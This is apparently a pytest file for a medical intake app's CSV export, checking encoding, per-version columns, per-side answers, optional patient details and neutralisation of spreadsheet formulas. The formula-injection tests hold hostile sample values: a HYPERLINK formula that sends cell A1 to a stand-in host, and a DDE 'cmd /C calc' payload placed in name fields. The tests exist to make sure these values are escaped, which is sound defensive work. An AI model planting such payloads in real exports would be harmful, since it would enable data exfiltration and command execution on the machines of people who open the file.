"""The CSV export for spreadsheets (issue 15, item 4): byte-order mark, one column per answer across
both questionnaire versions, per-side answers split, lists joined, formulas neutralised, line breaks
kept inside quoted cells."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path
from typing import Any

import pytest

from intake_app.domain import IntakeDocument, Patient, Questionnaire, load_questionnaire
from intake_app.domain.questionnaire import parse_questionnaire
from intake_app.exchange import ExchangeError, ExportItem, csv_bytes, csv_columns, neutralise, write_csv
from intake_app.screening import assess
from tests.exchange.documents import FREE_TEXT, NAMES, VERSIONS, document, item, rich_document

V1 = "foot-leg-intake/1"


def read(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_file_starts_with_a_byte_order_mark_and_is_utf8() -> None:
    data = csv_bytes([item(document(V1, {}, names=NAMES["cjk"]))])
    assert data[:3] == b"\xef\xbb\xbf"
    assert data.count(b"\xef\xbb\xbf") == 1
    assert "王" in data.decode("utf-8-sig")


def test_write_csv_streams_the_same_bytes(tmp_path: Path) -> None:
    items = [item(document(V1, {}, names=NAMES["greek"]))]
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        assert write_csv(items, stream) == 1
    assert path.read_bytes() == csv_bytes(items)


def test_one_row_per_item_with_intake_result_and_patient_columns() -> None:
    doc = document(V1, {"rf_saddle_numbness": "new", "back_pain": "severe"}, names=NAMES["accented"])
    exported = item(doc, revision=2)
    (row,) = read(csv_bytes([exported]))
    result = assess(doc)
    assert row["intake_uuid"] == exported.intake_uuid and row["revision"] == "2"
    assert (row["status"], row["questionnaire"], row["visit_date"]) == ("complete", V1, doc.visit_date.isoformat())
    assert (row["level"], row["tier"], row["rules_version"]) == (result.level, result.tier, result.rules_version)
    assert (row["family_name"], row["given_name"]) == NAMES["accented"]
    assert row["rf_saddle_numbness"] == "new" and row["rf_bladder_change"] == "unknown"
    assert row["onset"] == ""


def test_a_draft_without_a_screening_has_empty_result_cells() -> None:
    (row,) = read(csv_bytes([item(document(V1, {}), status="draft", screened=False)]))
    assert (row["status"], row["level"], row["tier"], row["rules_version"]) == ("draft", "", "", "")


def test_per_side_answers_are_split_into_left_and_right_columns_and_lists_joined() -> None:
    doc = document(V1, {"pain": {"left": ["heel", "arch"], "right": []}, "radiates_to": {"right": "foot"},
                        "worse_with": ["sitting", "walking"]})
    (row,) = read(csv_bytes([item(doc)]))
    assert (row["pain_left"], row["pain_right"]) == ("heel; arch", "")
    assert (row["radiates_to_left"], row["radiates_to_right"]) == ("", "foot")
    assert row["worse_with"] == "sitting; walking"
    assert "pain" not in row and "radiates_to" not in row


def test_the_columns_cover_every_installed_version() -> None:
    columns = csv_columns()
    assert len(columns) == len(set(columns))
    for ref in VERSIONS:
        q = load_questionnaire(ref)
        for question in q.answer_questions:
            if question.per_side:
                assert {f"{question.id}_left", f"{question.id}_right"} <= set(columns)
            else:
                assert question.id in columns
    assert columns[:8] == ["intake_uuid", "revision", "status", "questionnaire", "visit_date", "level", "tier",
                           "rules_version"]


def test_intakes_of_both_versions_share_one_file() -> None:
    docs = [rich_document(ref) for ref in VERSIONS]
    rows = read(csv_bytes([item(d) for d in docs]))
    assert [r["questionnaire"] for r in rows] == list(VERSIONS)
    for row, doc in zip(rows, docs, strict=True):
        q = load_questionnaire(doc.questionnaire)
        for question in q.answer_questions:
            value = doc.answers.get(question.id)
            if question.per_side:
                for side in ("left", "right"):
                    side_value = (value or {}).get(side)
                    expected = "; ".join(side_value) if isinstance(side_value, list) else (side_value or "")
                    assert row[f"{question.id}_{side}"] == neutralise(expected)
            elif isinstance(value, list):
                assert row[question.id] == "; ".join(value)
            else:
                assert row[question.id] == neutralise("" if value is None else str(value))


def _questionnaire(version: int, fields: list[dict[str, Any]]) -> Questionnaire:
    data = {
        "id": "demo-form", "version": version, "title": "Demo",
        "regions": [{"id": "heel", "label": "Heel"}], "sides": [{"id": "left", "label": "Left"},
                                                               {"id": "right", "label": "Right"}],
        "sections": [{"id": "s", "title": "S", "fields": fields}],
    }
    return parse_questionnaire(data, Path(f"{version}.yaml"))


COURSE = [{"value": "new", "label": "New"}, {"value": "old", "label": "Old"}]


def test_a_field_asked_once_in_one_version_and_per_side_in_another_gets_all_three_columns() -> None:
    first = _questionnaire(1, [
        {"id": "pain", "type": "per_side_regions", "label": "Where?"},
        {"id": "course", "type": "choice", "label": "Course?", "options": COURSE},
        {"id": "score", "type": "integer", "label": "Score?", "min": 0, "max": 10},
    ])
    second = _questionnaire(2, [
        {"id": "pain", "type": "per_side_regions", "label": "Where?"},
        {"id": "course", "type": "per_side_choice", "label": "Course?", "options": COURSE},
        {"id": "new_question", "type": "choice", "label": "New?", "options": COURSE},
        {"id": "score", "type": "integer", "label": "Score?", "min": 0, "max": 10},
    ])
    answers = [c for c in csv_columns([first, second], patient_details=False) if c not in csv_columns(
        [], patient_details=False)]
    assert answers == ["pain_left", "pain_right", "course_left", "course_right", "course", "new_question", "score"]


def test_columns_that_would_share_a_name_are_refused() -> None:
    clash = _questionnaire(1, [
        {"id": "pain", "type": "per_side_regions", "label": "Where?"},
        {"id": "pain_left", "type": "choice", "label": "Left?", "options": COURSE},
    ])
    with pytest.raises(ExchangeError, match="pain_left"):
        csv_columns([clash])


def test_an_intake_of_a_version_the_columns_do_not_cover_is_refused() -> None:
    with pytest.raises(ExchangeError, match="do not cover"):
        csv_bytes([item(document(V1, {}))], questionnaires=[])


def test_patient_details_can_be_left_out() -> None:
    data = csv_bytes([item(document(V1, {}, names=NAMES["latin"]))], patient_details=False)
    (row,) = read(data)
    for key in ("family_name", "given_name", "date_of_birth", "sex", "phone", "mrn"):
        assert key not in row
    assert NAMES["latin"][0].encode() not in data and b"SYN-0001" not in data


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise(f"a{start}b") == f"a{start}b"


def _raw_document(family_name: str, **patient: Any) -> IntakeDocument:
    """A document built directly, as a stored record could hold it, without the input checks."""
    base = document(V1, {})
    return dataclasses.replace(base, patient=dataclasses.replace(base.patient, family_name=family_name, **patient))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_formula_in_any_cell_reaches_the_spreadsheet_as_text(start: str) -> None:
    payload = f'{start}HYPERLINK("http://example.invalid/?"&A1,"click")'
    doc = _raw_document(payload, given_name=f"{start}cmd|' /C calc'!A0", phone="+44 7000 000003")
    data = csv_bytes([item(doc, screened=False)])
    (row,) = read(data)
    assert row["family_name"] == f"'{payload}"
    assert row["given_name"] == f"'{start}cmd|' /C calc'!A0"
    assert row["phone"] == "'+44 7000 000003"
    # No cell of the file begins with a formula character.
    for cells in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for cell in cells:
            assert not cell.startswith(tuple(FORMULA_STARTS)), cell


def test_a_free_text_answer_that_starts_like_a_formula_is_neutralised() -> None:
    texts = [q for ref in VERSIONS for q in load_questionnaire(ref).answer_questions if q.type == "text"]
    if not texts:
        pytest.skip("no free-text answer in the installed questionnaires")
    question = texts[0]
    ref = next(r for r in VERSIONS if load_questionnaire(r).has_question(question.id))
    doc = document(ref, {question.id: "=1+2"})
    (row,) = read(csv_bytes([item(doc)]))
    assert row[question.id] == "'=1+2"


def test_line_breaks_stay_inside_a_quoted_cell() -> None:
    name = "Line one\nLine two\r\nLine three"
    data = csv_bytes([item(_raw_document(name), screened=False)])
    text = data.decode("utf-8-sig")
    assert '"Line one\nLine two\r\nLine three"' in text
    (row,) = read(data)
    assert row["family_name"] == name
    assert text.count("\r\n") == 2 + 1  # header end, row end, and the one inside the cell


@pytest.mark.parametrize("ref", [r for r in VERSIONS
                                 if any(q.multiline for q in load_questionnaire(r).answer_questions)])
def test_multi_line_free_text_comes_back_whole(ref: str) -> None:
    doc = rich_document(ref)
    (row,) = read(csv_bytes([item(doc)]))
    multiline = [q.id for q in load_questionnaire(ref).answer_questions if q.multiline]
    assert row[multiline[0]] == FREE_TEXT


def test_a_missing_birth_date_and_no_screening_leave_empty_cells() -> None:
    doc = IntakeDocument(patient=Patient("Testperson", "Alex", None), visit_date=document(V1, {}).visit_date,
                         answers={}, questionnaire=V1)
    (row,) = read(csv_bytes([ExportItem("0f8fad5b-d9cb-469f-a165-70867728950e", 1, doc)]))
    assert row["date_of_birth"] == "" and row["level"] == ""
